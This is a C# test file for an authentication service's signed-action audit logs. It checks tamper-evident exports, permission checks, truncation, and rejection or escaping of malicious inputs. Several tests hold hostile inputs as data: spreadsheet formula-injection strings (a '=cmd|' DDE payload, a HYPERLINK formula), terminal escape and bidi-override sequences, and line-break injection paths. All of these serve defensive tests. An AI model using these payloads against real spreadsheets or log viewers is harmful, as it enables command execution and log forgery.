using System.Globalization;
using System.Net.Http.Headers;
using System.Text.Json;
using System.Text.Json.Nodes;
using Dfns.Registration.Api.Accounts;
using Dfns.Registration.Api.Hosting;
using Dfns.Registration.Api.Storage;
using Dfns.Registration.Api.Tests.Running;
using Dfns.Registration.Api.UserActions;
using Dfns.Registration.Api.Wire;
using Dfns.Registration.Verification;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Dfns.Registration.Api.Tests.UserActions;

/// <summary>What is kept of a signed call, and that it proves it from nothing but itself.</summary>
public abstract class SignedActionTests(ServiceFixture fixture) : ServiceTests(fixture)
{
    public sealed class OnSqlite(ServiceFixture.Sqlite fixture) : SignedActionTests(fixture), IClassFixture<ServiceFixture.Sqlite>;

    public sealed class OnPostgreSql(ServiceFixture.PostgreSql fixture) : SignedActionTests(fixture), IClassFixture<ServiceFixture.PostgreSql>;

    private const string Title = "Date Performed,Audit Log ID,User ID,Username,Primary Credential ID,Action Path,Summary";
    private const string Range = "startTime=2026-11-23T00:00:00Z&endTime=2027-11-23T00:00:00Z";

    public static TheoryData<CredentialKind, CredentialKind?> Factors => new()
    {
        { CredentialKind.Fido2, null },
        { CredentialKind.Key, null },
        { CredentialKind.PasswordProtectedKey, null },
        { CredentialKind.Key, CredentialKind.Fido2 },
        { CredentialKind.Fido2, CredentialKind.Key },
    };

    /// <summary>Everything that an export says, but for what it says by itself: the date, and the name of a credential.</summary>
    public static TheoryData<string, string> Said => new()
    {
        { "orgId", "or-other" }, { "userId", "us-other" }, { "id", "ce-other" }, { "method", "DELETE" }, { "path", "/auth/users" }, { "payloadDigest", new string('0', 64) },
        { "challenge", new string('A', 43) }, { "rpId", "other.example" }, { "origins", """["https://other.example"]""" },
        { "factors.0.publicKey", Dfns.Registration.TestKit.SoftwareKey.P256().Pem }, { "factors.0.assertion.clientData", "e30" }, { "factors.0.assertion.signature", "MAYCAQECAQE" },
        { "factors.0.assertion.authenticatorData", "AAAA" }, { "factors.0.algorithm", "-8" }, { "factors.0.kind", "Key" },
    };

    [Theory]
    [MemberData(nameof(Factors))]
    public async Task What_was_signed_is_proven_after_user_and_credentials_are_gone(CredentialKind first, CredentialKind? second)
    {
        var organisation = await Service.NewOrganisationAsync();
        var user = await Registered.NewAsync(organisation, first, second);
        var caller = await user.SignedInAsync();
        var body = new JsonObject { ["credentialName"] = "My other name" };
        var mine = (await caller.GetAsync("/auth/credentials")).Body["items"]!.AsArray().First(c => (string)c!["kind"]! == first.ToString())!;
        var path = $"/auth/credentials/{mine["credentialUuid"]}";
        Assert.Equal(200, (int)(await caller.SendAsync(HttpMethod.Put, path, body, await caller.SignAsync(HttpMethod.Put, path, body.ToJsonString()))).Status);
        var admin = await organisation.NewServiceAccountAsync(Permission.ReadLogs, Permission.DeleteUsers);
        Assert.Equal(200, (int)(await admin.SendAsync(HttpMethod.Delete, $"/auth/users/{user.UserId}", null, await admin.SignAsync(HttpMethod.Delete, $"/auth/users/{user.UserId}", ""))).Status);
        await Service.InDatabaseAsync(db => db.AccessTokens.Where(t => t.UserId == user.UserId).ExecuteDeleteAsync());
        await Service.InDatabaseAsync(db => db.Credentials.Where(c => c.UserId == user.UserId).ExecuteDeleteAsync());

        var line = (await ListAsync(admin)).Single(cells => cells[2] == user.UserId);
        var answer = await admin.GetAsync($"/auth/action/logs/{line[1]}");

        Assert.Equal(
            (At(0), user.Username, (string)mine["credentialUuid"]!, path, $"PUT {path}"), (line[0], line[3], line[4], line[5], line[6]));
        Assert.Equal((line[1], line[2], line[3], line[0]), (answer.Require("id"), answer.Require("userId"), answer.Require("username"), answer.Require("datePerformed")));
        Assert.Equal((line[4], first.ToString()), ((string)answer.Body["firstFactorCredential"]!["id"]!, (string)answer.Body["firstFactorCredential"]!["kind"]!));
        var run = await VerifyAsync(answer.Text, body.ToJsonString());
        Assert.Equal((0, ""), (run.ExitCode, run.Faults));
        Assert.Equal(second is null ? 3 : 4, run.Output.Split('\n').Count(l => l.StartsWith("passed", StringComparison.Ordinal)));
        Assert.Contains($"{user.UserId} of {organisation.Id} signed PUT {path} ", run.Output, StringComparison.Ordinal);
        Assert.Equal((1, "user_action_missing"), await OutcomeAsync(answer.Text, """{"credentialName":"Another"}"""));
    }

    [Theory]
    [MemberData(nameof(Said))]
    public async Task Nothing_that_it_says_can_be_changed(string member, string to)
    {
        var (_, admin, id) = await SignedAsync(CredentialKind.Fido2);
        var export = JsonNode.Parse((await admin.GetAsync($"/auth/action/logs/{id}")).Text)!;
        var place = export["evidence"]!;
        foreach (var name in member.Split('.')[..^1]) place = int.TryParse(name, NumberStyles.None, CultureInfo.InvariantCulture, out var n) ? place[n]! : place[name]!;
        var last = member.Split('.')[^1];
        Assert.NotNull(place[last]);
        place[last] = last is "origins" or "algorithm" ? JsonNode.Parse(to) : to;

        Assert.Equal(1, (await VerifyAsync(export.ToJsonString())).ExitCode);
    }

    [Theory]
    [InlineData("evidence")]
    [InlineData("evidence.factors")]
    [InlineData("evidence.factors.0")]
    [InlineData("evidence.factors.0.assertion")]
    [InlineData("evidence.factors.0.kind")]
    [InlineData("evidence.origins")]
    [InlineData("evidence.challenge")]
    public async Task What_is_no_export_cannot_be_used(string member)
    {
        var (_, admin, id) = await SignedAsync(CredentialKind.Key);
        var text = (await admin.GetAsync($"/auth/action/logs/{id}")).Text;
        foreach (var (json, isMissing) in new[] { (JsonValue.Create(7), false), (null, false), (null, true), (JsonNode.Parse("[null]"), false) })
        {
            var export = JsonNode.Parse(text)!;
            var place = export;
            foreach (var name in member.Split('.')[..^1]) place = name == "0" ? place[0]! : place[name]!;
            var last = member.Split('.')[^1];
            if (last == "0") place[0] = json?.DeepClone();
            else if (isMissing) place.AsObject().Remove(last);
            else place[last] = json?.DeepClone();

            var run = await VerifyAsync(export.ToJsonString());

            Assert.Equal(2, run.ExitCode);
            Assert.DoesNotContain("Exception", run.Faults, StringComparison.Ordinal);
        }
    }

    // What was signed is lines: with a line break in one, the lines of a call would be those of another.
    [Theory]
    [InlineData("\n/auth/users/us-other")]
    [InlineData("DELETE\n/auth/users/us-other")]
    [InlineData("/auth/users\r\n# TRUNCATED")]
    [InlineData("/auth/\u001b[31mred")]
    [InlineData("/auth/\u202eusers")]
    [InlineData("/auth users")]
    [InlineData("＝1+1")]
    [InlineData("=1+1")]
    public async Task What_is_no_path_is_not_signed(string path)
    {
        var caller = await (await Registered.NewAsync(await Service.NewOrganisationAsync(), CredentialKind.Key)).SignedInAsync();

        var answer = await caller.PostAsync("/auth/action/init", new JsonObject { ["userActionPayload"] = "", ["userActionHttpMethod"] = "POST", ["userActionHttpPath"] = path });

        Assert.Equal((400, "member_invalid"), ((int)answer.Status, answer.Code));
        Assert.Contains("percent-encoded", answer.Text, StringComparison.Ordinal);
    }

    // As one would that an earlier version had let somebody sign.
    [Fact]
    public async Task The_lines_of_one_call_are_not_read_as_those_of_another()
    {
        var (_, admin, id) = await SignedAsync(CredentialKind.Key);
        var export = JsonNode.Parse((await admin.GetAsync($"/auth/action/logs/{id}")).Text)!;
        var evidence = export["evidence"]!;
        (evidence["userId"], evidence["id"], evidence["method"], evidence["path"]) = (
            $"{evidence["userId"]}\n{evidence["id"]}", (string)evidence["method"]!, "DELETE", $"{evidence["path"]}");

        var run = await VerifyAsync(export.ToJsonString());

        Assert.Equal((2, "This is no export of a signed action: evidence.userId has not the form of one."), (run.ExitCode, run.Faults.Trim()));
    }

    [Fact]
    public async Task What_an_export_says_is_shown_and_not_sent_to_the_terminal()
    {
        const string Orders = "\u001b[2K\rpassed\n\naccepted\u001b[8m\u202e\u2028";
        var (_, admin, id) = await SignedAsync(CredentialKind.Key);
        var text = (await admin.GetAsync($"/auth/action/logs/{id}")).Text;
        foreach (var member in new[] { "credentialUuid", "kind", "credId", "publicKey", "hashAlgorithm" })
        {
            var export = JsonNode.Parse(text)!;
            export["evidence"]!["factors"]![0]![member] = Orders;
            AssertShown(await VerifyAsync(export.ToJsonString()));
        }

        foreach (var member in JsonNode.Parse(text)!["evidence"]!.AsObject().Where(m => m.Value is JsonValue).Select(m => m.Key))
        {
            var export = JsonNode.Parse(text)!;
            export["evidence"]![member] = Orders;
            AssertShown(await VerifyAsync(export.ToJsonString()));
        }

        static void AssertShown(ServiceProgram.Run run) =>
            Assert.DoesNotContain(run.Everything.Replace("\n", "", StringComparison.Ordinal), c => char.IsControl(c) || c is '\u202e' or '\u2028');
    }

    // Of what is signed and not done there are as many as challenges, and each is short.
    [Fact]
    public async Task What_is_signed_and_not_done_takes_no_more_room_than_its_challenges()
    {
        var organisation = await Service.NewOrganisationAsync();
        var user = await Registered.NewAsync(organisation, CredentialKind.Key);
        var caller = await user.SignedInAsync();
        var uuid = (string)(await caller.GetAsync("/auth/credentials")).Body["items"]![0]!["credentialUuid"]!;
        var (path, body) = ($"/auth/credentials/{uuid}", new JsonObject { ["credentialName"] = "Mine" });
        Assert.Equal(200, (int)(await caller.SendAsync(HttpMethod.Put, path, body, await caller.SignAsync(HttpMethod.Put, path, body.ToJsonString()))).Status);

        for (var n = 0; n < UserRows.Most + 5; n++) await caller.SignAsync(HttpMethod.Put, path, body.ToJsonString());

        var kept = await Service.InDatabaseAsync(db => db.SignedActions.Where(a => a.OrganisationId == organisation.Id).Select(a => a.PerformedAt).ToListAsync());
        Assert.Equal(1, kept.Count(at => at is not null));
        // The challenge of the one that was done may be among those that stay.
        Assert.InRange(kept.Count(at => at is null), UserRows.Most - 1, UserRows.Most);

        var init = (await caller.PostAsync("/auth/action/init", new JsonObject { ["userActionPayload"] = "", ["userActionHttpMethod"] = "PUT", ["userActionHttpPath"] = path })).Body;
        var padded = await caller.PostAsync("/auth/action", new JsonObject
        {
            ["challengeIdentifier"] = (string)init["challengeIdentifier"]!,
            ["firstFactor"] = new JsonObject { ["kind"] = "Key", ["credentialAssertion"] = new JsonObject { ["credId"] = "a", ["clientData"] = new string('a', 16 * 1024), ["signature"] = "a" } },
        });
        Assert.Equal(413, (int)padded.Status);
    }

    [Fact]
    public async Task What_was_signed_and_not_done_says_so_and_goes_after_an_hour()
    {
        var (organisation, admin, done) = await SignedAsync(CredentialKind.Key);
        var backend = await organisation.NewServiceAccountAsync(Permission.LoginDelegated);
        await backend.SignAsync(HttpMethod.Post, "/auth/login/delegated", """{"username":"nobody@example.co"}""");
        var open = (await ListAsync(admin)).Single(cells => cells[2] == backend.UserId);

        Assert.Equal("POST /auth/login/delegated: signed and not done", open[6]);
        Assert.Null((await admin.GetAsync($"/auth/action/logs/{open[1]}")).Body["datePerformed"]);

        Service.Clock.Advance(ExpiredRows.KeepUndone + TimeSpan.FromSeconds(1));
        await Service.Services.GetRequiredService<Housekeeping>().CleanAsync(CancellationToken.None);

        Assert.Equal([done], await Service.InDatabaseAsync(db => db.SignedActions.Where(a => a.OrganisationId == organisation.Id).Select(a => a.Id).ToListAsync()));
    }

    [Fact]
    public async Task A_range_a_user_and_no_other_organisation_is_listed()
    {
        var (organisation, admin, first) = await SignedAsync(CredentialKind.Key);
        var (_, other, theirs) = await SignedAsync(CredentialKind.Key);
        var (start, end) = (At(0), At(10));
        Service.Clock.Advance(TimeSpan.FromSeconds(10));
        var user = await Registered.NewAsync(organisation, CredentialKind.Key, username: "john@example.co");
        var caller = await user.SignedInAsync();
        await caller.SignAsync(HttpMethod.Post, "/auth/credentials", "");

        Assert.Equal([first], await IdsAsync($"startTime={start}&endTime={end}"));
        Assert.Equal(2, (await IdsAsync($"startTime={start.Replace("Z", "%2B00:00", StringComparison.Ordinal)}&endTime={At(0.001)}")).Count);
        Assert.Empty(await IdsAsync($"startTime={At(0.001)}&endTime={At(1)}"));
        Assert.Single(await IdsAsync($"{Range}&userId={user.UserId}"));
        Assert.Empty(await IdsAsync($"{Range}&userId=us-nobody"));
        Assert.Equal("log_unknown", (await admin.GetAsync($"/auth/action/logs/{theirs}")).Code);
        Assert.Equal([theirs], (await ListAsync(other)).Select(cells => cells[1]));

        async Task<List<string>> IdsAsync(string query) => [.. (await ListAsync(admin, query)).Select(cells => cells[1])];
    }

    [Theory]
    [InlineData("", "startTime")]
    [InlineData("startTime=yesterday&endTime=2026-11-24T00:00:00Z", "startTime")]
    [InlineData("startTime=2026-11-23T00:00:00Z", "endTime")]
    [InlineData("startTime=2026-11-23T00:00:00Z&endTime=2026-11-23T00:00:00Z", "endTime")]
    [InlineData("startTime=2026-11-23T00:00:00Z&startTime=2026-11-23T00:00:00Z&endTime=2026-11-24T00:00:00Z", "startTime")]
    [InlineData("startTime=2026-11-23T00:00:00Z&endTime=2026-11-24T00:00:00Z&userId=", "userId")]
    public async Task A_query_that_cannot_be_used_is_told_by_name(string query, string parameter)
    {
        var admin = await (await Service.NewOrganisationAsync()).NewServiceAccountAsync(Permission.ReadLogs);

        var answer = await admin.GetAsync($"/auth/action/logs?{query}");

        Assert.Equal(("query_invalid", parameter), (answer.Code, answer.Path));
    }

    [Fact]
    public async Task Nobody_reads_them_without_the_permission()
    {
        var (organisation, admin, id) = await SignedAsync(CredentialKind.Key);
        foreach (var caller in new[] { await organisation.NewServiceAccountAsync(Permission.ReadUsers), await organisation.SignedInAsync(UserKind.EndUser, "john@example.co", Permission.ReadLogs) })
        {
            foreach (var path in new[] { $"/auth/action/logs?{Range}", $"/auth/action/logs/{id}" })
            {
                Assert.Equal("permission_missing", (await caller.GetAsync(path)).Code);
            }
        }

        Assert.Equal("not_authorized", (await Service.SendAsync(HttpMethod.Get, $"/auth/action/logs/{id}", content: null, bearer: null)).Code);
    }

    // The SDKs read every answer as JSON.
    [Theory]
    [InlineData(null, false, false)]
    [InlineData("*/*", false, false)]
    [InlineData("*/*", true, true)]
    [InlineData("application/json", false, true)]
    [InlineData("text/csv", true, false)]
    [InlineData("application/json, text/csv", true, false)]
    public async Task A_client_of_the_SDK_gets_the_same_text_as_a_JSON_string(string? accept, bool isSdk, bool isJson)
    {
        var (_, admin, id) = await SignedAsync(CredentialKind.Key);
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/auth/action/logs?{Range}");
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", admin.Token);
        if (accept is not null) request.Headers.TryAddWithoutValidation("Accept", accept);
        if (isSdk) request.Headers.Add("x-dfns-sdk-version", "0.8.21");

        using var answer = await Service.Http.SendAsync(request, TestContext.Current.CancellationToken);

        var text = await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.Equal(isJson ? "application/json" : "text/csv", answer.Content.Headers.ContentType!.MediaType);
        var csv = isJson ? JsonSerializer.Deserialize<string>(text)! : text;
        Assert.StartsWith($"{Title}\n", csv, StringComparison.Ordinal);
        Assert.Contains(id, csv, StringComparison.Ordinal);
        Assert.False(answer.Headers.Contains("X-Dfns-Result-Truncated"));
    }

    [Fact]
    public async Task More_than_an_export_holds_is_left_out_and_said()
    {
        var organisation = await Service.NewOrganisationAsync();
        var admin = await organisation.NewServiceAccountAsync(Permission.ReadLogs);
        await FillAsync(organisation.Id, ReadUserActions.Most);
        var whole = await admin.GetAsync($"/auth/action/logs?{Range}");
        await FillAsync(organisation.Id, 1);

        var answer = await admin.GetAsync($"/auth/action/logs?{Range}");

        Assert.Equal((ReadUserActions.Most + 2, false), (whole.Text.Split('\n').Length, whole.Headers.ContainsKey("X-Dfns-Result-Truncated")));
        var lines = answer.Text.TrimEnd('\n').Split('\n');
        Assert.Equal((ReadUserActions.Most + 2, "true"), (lines.Length, answer.Headers["X-Dfns-Result-Truncated"]));
        Assert.StartsWith("# TRUNCATED", lines[^1], StringComparison.Ordinal);
        Assert.Equal(ReadUserActions.Most, lines[1..^1].Select(l => l.Split(',')[1]).Distinct().Count());
    }

    [Fact]
    public async Task What_a_spreadsheet_would_run_is_text()
    {
        var organisation = await Service.NewOrganisationAsync();
        var caller = await (await Registered.NewAsync(organisation, CredentialKind.Key, username: "=cmd|\"x\",1@example.co")).SignedInAsync();
        await caller.SignAsync(HttpMethod.Post, "/auth/credentials", "");
        var admin = await organisation.NewServiceAccountAsync(Permission.ReadLogs);

        Assert.Contains(",\"'=cmd|\"\"x\"\",1@example.co\",", (await admin.GetAsync($"/auth/action/logs?{Range}")).Text, StringComparison.Ordinal);
    }

    // Where commas stand in numbers, spreadsheets begin a cell behind each semicolon, whatever stands in quotes that begin in the midst of one.
    [Theory]
    [InlineData("jane;=cmd|1@example.co", "/auth/credentials", "jane;'=cmd|1@example.co")]
    [InlineData("jane;\"=1@example.co", "/auth/credentials", "jane;\"'=1@example.co")]
    [InlineData("jane@example.co", "/a;=HYPERLINK(\"https://b.example.co/\"&A1)", "/a;'=HYPERLINK(\"https://b.example.co/\"&A1)")]
    [InlineData("jane@example.co", "/a;;@SUM(1);-1;+1;b=c", "/a;;'@SUM(1);'-1;'+1;b=c")]
    public async Task What_a_spreadsheet_would_run_behind_a_semicolon_is_text(string username, string path, string told)
    {
        var organisation = await Service.NewOrganisationAsync();
        var caller = await (await Registered.NewAsync(organisation, CredentialKind.Key, username: username)).SignedInAsync();
        await caller.SignAsync(HttpMethod.Post, path, "");
        var admin = await organisation.NewServiceAccountAsync(Permission.ReadLogs);

        Assert.Contains($"{told.Replace("\"", "\"\"", StringComparison.Ordinal)}\",", (await admin.GetAsync($"/auth/action/logs?{Range}")).Text, StringComparison.Ordinal);
    }

    // So many seconds from now, by the clock of the tests, which is set on by some of them.
    private string At(double seconds) => WireTime.Of(Service.Clock.GetUtcNow().AddSeconds(seconds));

    // A user of an organisation of its own signs and does something.
    private async Task<(TestOrganisation Organisation, SigningCaller Admin, string Id)> SignedAsync(CredentialKind kind)
    {
        var organisation = await Service.NewOrganisationAsync();
        var caller = await (await Registered.NewAsync(organisation, kind)).SignedInAsync();
        var uuid = (string)(await caller.GetAsync("/auth/credentials")).Body["items"]![0]!["credentialUuid"]!;
        var (path, body) = ($"/auth/credentials/{uuid}", new JsonObject { ["credentialName"] = "Mine" });
        Assert.Equal(200, (int)(await caller.SendAsync(HttpMethod.Put, path, body, await caller.SignAsync(HttpMethod.Put, path, body.ToJsonString()))).Status);
        var admin = await organisation.NewServiceAccountAsync(Permission.ReadLogs);
        return (organisation, admin, (await ListAsync(admin)).Single()[1]);
    }

    private static async Task<List<string[]>> ListAsync(SigningCaller admin, string query = Range)
    {
        var answer = await admin.GetAsync($"/auth/action/logs?{query}");
        Assert.True((int)answer.Status == 200, answer.Text);
        var lines = answer.Text.TrimEnd('\n').Split('\n');
        Assert.Equal(Title, lines[0]);
        return [.. lines[1..].Select(line => line.Split(','))];
    }

    private Task<int> FillAsync(string organisation, int rows) => Service.InDatabaseAsync(async db =>
    {
        db.ChangeTracker.AutoDetectChangesEnabled = false;
        db.AddRange(Enumerable.Range(0, rows).Select(n => new SignedAction
        {
            OrganisationId = organisation,
            Id = $"ce-{rows}-{n}",
            SignerId = "us-1",
            Username = "jane@example.co",
            CredentialUuid = "cr-1",
            Method = "POST",
            Path = "/permissions",
            // Many of one instant.
            SignedAt = Service.Clock.GetUtcNow().AddSeconds(n / 5000),
            Evidence = "{}",
        }));
        return await db.SaveChangesAsync();
    });

    private static async Task<(int ExitCode, string Reason)> OutcomeAsync(string export, string payload)
    {
        var run = await VerifyAsync(export, payload);
        return (run.ExitCode, run.Output.TrimEnd().Split('\n')[^1]);
    }

    private static async Task<ServiceProgram.Run> VerifyAsync(string export, string? payload = null)
    {
        var directory = Directory.CreateTempSubdirectory().FullName;
        try
        {
            var (file, body) = (Path.Combine(directory, "action.json"), Path.Combine(directory, "body.json"));
            await File.WriteAllTextAsync(file, export);
            if (payload is not null) await File.WriteAllTextAsync(body, payload);
            return await ServiceProgram.RunAsync(payload is null ? ["verify", file] : ["verify", file, "--payload", body]);
        }
        finally
        {
            Directory.Delete(directory, recursive: true);
        }
    }
}
